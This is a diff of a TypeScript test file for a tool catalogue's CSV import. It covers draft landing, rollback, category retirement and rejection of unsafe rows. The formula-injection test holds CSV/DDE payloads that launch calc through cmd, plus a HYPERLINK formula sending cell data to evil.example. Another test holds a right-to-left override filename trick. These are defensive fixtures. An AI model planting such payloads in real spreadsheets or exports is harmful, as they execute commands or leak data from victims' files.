@@ -10,6 +10,7 @@ import {
   mergeCategories,
   renameCategory,
   retireCategory,
+  unretireCategory,
 } from "../../server/modules/catalog/index.ts";
 import { createSubmission } from "../../server/modules/submissions/index.ts";
 import { queryRows, sql } from "../../server/platform/db/index.ts";
@@ -169,22 +170,27 @@ describe("rows that used to import silently", () => {
     expect(report.added.map((a) => a.name)).toEqual(["Long Html Tool", "Less Than Tool"]);
   });
 
-  it("neutralises formulas and flags text that only looks like one, keeping its meaning", async () => {
+  it("refuses formula-like values with the row named, and flags text that only looks like one, keeping its meaning", async () => {
     const csv = [
       HEADER,
       `Dde Tool,,Fine,"-2+3+cmd|' /C calc'!A0",Writing,https://dde-tool.example,,Free,,,`,
       `Speed Tool,,Fine,-2+3 times faster rendering than v1,Writing,https://speed-tool.example,,Free,,,`,
       `"	=1+1 Tab Tool",,Fine,,Writing,https://tab-tool.example,,Free,,,`,
+      `"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",,Fine,,Writing,https://leak-tool.example,,Free,,,`,
+      `Calc Tool,,"=cmd|' /C calc'!A0",,Writing,https://calc-tool.example,,Free,,,`,
     ].join("\n");
     const report = await importCsv(db(), csv, { source: "formulas" });
-    expect(report.errors).toEqual([]);
-    expect((await getTool(db(), "dde-tool"))?.full_description).toBe("2+3+cmd|' /C calc'!A0");
+    expect(report.added.map((a) => a.name)).toEqual(["Speed Tool"]);
+    const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
+    expect(errors[2]).toMatch(/^Row 2: Full description looks like a spreadsheet formula/);
+    expect(errors[4]).toMatch(/^Row 4: Name looks like a spreadsheet formula/);
+    expect(errors[5]).toMatch(/^Row 5: Name looks like a spreadsheet formula \('=HYPERLINK/);
+    expect(errors[6]).toMatch(/^Row 6: Description looks like a spreadsheet formula/);
+    expect(await getTool(db(), "dde-tool")).toBeNull();
     expect((await getTool(db(), "speed-tool"))?.full_description).toBe("-2+3 times faster rendering than v1");
     expect(report.warnings).toEqual(
       expect.arrayContaining([
-        { row: 2, message: "Full description: a spreadsheet formula prefix was removed" },
         { row: 3, message: "Full description starts with '-': kept as text (not a formula; exports escape it)" },
-        { row: 4, message: "Name: a spreadsheet formula prefix was removed" },
       ]),
     );
   });
@@ -195,6 +201,91 @@ describe("rows that used to import silently", () => {
       sql`SELECT added, source FROM catalog_imports WHERE source = 'seed:ai-tools.csv'`,
     );
     expect(seeds).toEqual([{ added: 2658, source: "seed:ai-tools.csv" }]);
+  });
+});
+
+describe("admin imports land for review (issue 31)", () => {
+  const statusOf = async (slug: string) =>
+    (await queryRows<{ status: string }>(db(), sql`SELECT status::text AS status FROM tools WHERE slug = ${slug}`))[0]
+      ?.status;
+
+  it("an admin upload adds drafts unless 'publish on import' is chosen; the seed still publishes", async () => {
+    const upload = (name: string, publish: boolean) => {
+      const form = new FormData();
+      const csv = [
+        HEADER,
+        `${name},,Drafted,,Writing,https://${name.toLowerCase().replaceAll(" ", "-")}.example,,Free,,,`,
+      ];
+      form.set("intent", "import");
+      form.set("file", new File([csv.join("\n")], "drafts.csv", { type: "text/csv" }));
+      if (publish) form.set("publish", "on");
+      return admin.client.fetch("/admin/tools", { method: "POST", body: form });
+    };
+    expect((await upload("Draft Landing Tool", false)).status).toBeLessThan(400);
+    expect(await statusOf("draft-landing-tool")).toBe("draft");
+    expect((await upload("Published Landing Tool", true)).status).toBeLessThan(400);
+    expect(await statusOf("published-landing-tool")).toBe("active");
+    const api = await admin.client.json("/api/admin/tools/import/csv", "POST", {
+      csv: [HEADER, `Api Draft Tool,,Drafted,,Writing,https://api-draft-tool.example,,Free,,,`].join("\n"),
+    });
+    expect(api.status).toBe(200);
+    expect(await statusOf("api-draft-tool")).toBe("draft");
+    // The seed import of the real catalogue is not an admin import: it publishes.
+    expect(
+      await count(sql`SELECT count(*)::int AS n FROM tools t JOIN catalog_imports i ON i.id = t.import_id
+                       WHERE i.source = 'seed:ai-tools.csv' AND t.status = 'draft'`),
+    ).toBe(0);
+  });
+
+  it("warns about renamed slugs and right-to-left override characters, naming the row", async () => {
+    const csv = [
+      HEADER,
+      `Slug Clash Tool,chatgpt,Clashes,,Writing,https://slug-clash.example,,Free,,,`,
+      `Rtl Tool \u202Eexe.txt,,Sneaky,,Writing,https://rtl-tool.example,,Free,,,`,
+    ].join("\n");
+    const report = await importCsv(db(), csv, { source: "admin:warn.csv", landAs: "draft" });
+    const [clash, rtl] = report.added;
+    expect(clash?.slug).toMatch(/^chatgpt-\d+$/);
+    expect(rtl?.slug).toBe("rtl-tool-exe-txt");
+    expect(report.warnings).toEqual(
+      expect.arrayContaining([
+        { row: 2, message: `Slug 'chatgpt' belongs to another tool: this one was renamed '${clash?.slug}'` },
+        expect.objectContaining({ row: 3, message: expect.stringMatching(/^Name contained a right-to-left override/) }),
+      ]),
+    );
+  });
+
+  it("a file with a NUL byte is refused with the row named, dry run and real import alike (never a 500)", async () => {
+    for (const dryRun of [true, false]) {
+      const form = new FormData();
+      const csv = [HEADER, `Nul Tool,,Has a \u0000 byte,,Writing,https://nul-tool.example,,Free,,,`].join("\n");
+      form.set("intent", dryRun ? "dry-run" : "import");
+      form.set("file", new File([csv], "nul.csv", { type: "text/csv" }));
+      const res = await admin.client.fetch("/admin/tools", { method: "POST", body: form });
+      expect(res.status, String(dryRun)).toBe(400);
+      expect((await res.text()).replaceAll("&#x27;", "'")).toContain("NUL byte on row 2");
+    }
+  });
+
+  it("an import is rolled back as a whole: its tools leave the directory, audited, once", async () => {
+    const csv = [
+      HEADER,
+      `Rollback One,,First,,Writing,https://rollback-one.example,,Free,,,`,
+      `Rollback Two,,Second,,Writing,https://rollback-two.example,,Free,,,`,
+    ].join("\n");
+    const report = await importCsv(db(), csv, {
+      source: "admin:rollback.csv",
+      landAs: "active",
+      audit: { actor: actor() },
+    });
+    expect(await statusOf("rollback-one")).toBe("active");
+    const res = await admin.client.form(`/admin/imports/${report.importId}`, { intent: "rollback", confirm: "on" });
+    expect(res.status).toBeLessThan(400);
+    expect(await statusOf("rollback-one")).toBe("archived");
+    expect(await statusOf("rollback-two")).toBe("archived");
+    expect(await auditRows("catalog.import_rollback", String(report.importId))).toHaveLength(1);
+    const again = await admin.client.form(`/admin/imports/${report.importId}`, { intent: "rollback", confirm: "on" });
+    expect(again.status).toBe(409);
   });
 });
 
@@ -281,6 +372,46 @@ describe("categories as managed data", () => {
     };
     expect(categories.categories.map((c) => c.slug)).not.toContain("health-lifestyle");
     expect(await auditRows("category.retire", String(src?.id))).toHaveLength(1);
+  });
+
+  it("merge and retire ask for a ticked confirmation on the server; a retirement is undone, a merge is refused with why", async () => {
+    const from = await createCategory(db(), ctx(), { name: "Confirm Source" });
+    const into = await createCategory(db(), ctx(), { name: "Confirm Target" });
+    const moved = await importCsv(
+      db(),
+      [HEADER, `Unretire Tool,,Moves,,Confirm Source,https://unretire-tool.example,,Free,,,`].join("\n"),
+      { source: "cli:unretire.csv" },
+    );
+    expect(moved.added).toHaveLength(1);
+    const toolCategory = async () =>
+      (
+        await queryRows<{ category_id: number }>(db(), sql`SELECT category_id FROM tools WHERE slug = 'unretire-tool'`)
+      )[0]?.category_id;
+    for (const intent of ["merge", "retire"]) {
+      const refused = await admin.client.form("/admin/categories", {
+        intent,
+        id: String(from.id),
+        target: String(into.id),
+      });
+      expect(refused.status, intent).toBe(400);
+      expect(await refused.text()).toContain("Tick the box to confirm");
+    }
+    expect(await toolCategory()).toBe(from.id);
+    const retired = await admin.client.form("/admin/categories", {
+      intent: "retire",
+      id: String(from.id),
+      target: String(into.id),
+      confirm: "on",
+    });
+    expect(retired.status).toBe(302);
+    expect(await toolCategory()).toBe(into.id);
+    expect(await unretireCategory(db(), ctx(), from.id)).toEqual({ name: "Confirm Source", toolsMovedBack: 1 });
+    expect(await toolCategory()).toBe(from.id);
+    expect((await listCategories(db())).some((c) => c.slug === "confirm-source")).toBe(true);
+    expect(await auditRows("category.unretire", String(from.id))).toHaveLength(1);
+
+    await mergeCategories(db(), ctx(), from.id, into.id);
+    await expect(unretireCategory(db(), ctx(), from.id)).rejects.toThrow(/was merged, not retired/);
   });
 
   it("the admin pages: create through the form, list imports, open a report (admins only)", async () => {
